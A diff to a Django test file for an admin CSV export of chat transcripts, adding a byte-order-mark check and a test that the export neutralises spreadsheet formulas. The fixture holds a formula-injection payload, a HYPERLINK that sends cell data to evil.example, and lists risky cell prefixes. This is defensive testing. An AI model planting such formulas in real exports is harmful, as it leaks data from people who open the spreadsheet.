@@ -8,6 +8,7 @@ import pytest
 from django.test import Client
 
 from chat import conversations as actions
+from agents import exports
 from chat.models import SenderKind
 
 from .helpers import make_user, queued_conversation
@@ -101,8 +102,12 @@ def test_list_needs_a_fixed_number_of_queries(people, django_assert_max_num_quer
 
 
 def _content(response):
+    """The body as text; a CSV's byte order mark is checked and dropped."""
     assert response.streaming
-    return b"".join(response.streaming_content).decode()
+    body = b"".join(response.streaming_content)
+    if response["Content-Type"].startswith("text/csv"):
+        assert body.startswith("\ufeff".encode())
+    return body.decode("utf-8-sig")
 
 
 def test_exports_stream_one_row_per_conversation_and_full_transcripts(people):
@@ -121,6 +126,20 @@ def test_exports_stream_one_row_per_conversation_and_full_transcripts(people):
     # Filters of the list apply to the export.
     filtered = list(csv.DictReader(io.StringIO(_content(client.get("/admin/agents/transcript/export.csv", {"q": "second"})))))
     assert [int(r["id"]) for r in filtered] == [second.pk]
+
+
+def test_csv_export_neutralises_formulas_and_opens_in_excel_as_utf8(people):
+    conversation = handled_conversation(people["agent"], score=1)
+    comment = '=HYPERLINK("http://evil.example/?"&A1,"退款 refund")'
+    type(conversation).objects.filter(pk=conversation.pk).update(rating_comment=comment)
+    for start in ("-2+3", "@SUM(A1)", "\tcmd", "\rcmd", "＝1+1"):
+        assert exports.safe_cell(start) == "'" + start
+    assert exports.safe_cell("fine = ok") == "fine = ok" and exports.safe_cell(-5) == -5
+    raw = b"".join(client_for(people["manager"]).get("/admin/agents/transcript/export.csv").streaming_content)
+    assert raw.startswith(b"\xef\xbb\xbfid,")
+    row = next(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
+    assert row["rating_comment"] == "'" + comment and "退款" in row["rating_comment"]
+    assert not any(value.startswith(("=", "+", "-", "@")) for value in row.values())
 
 
 def test_exports_are_for_managers_only(people):
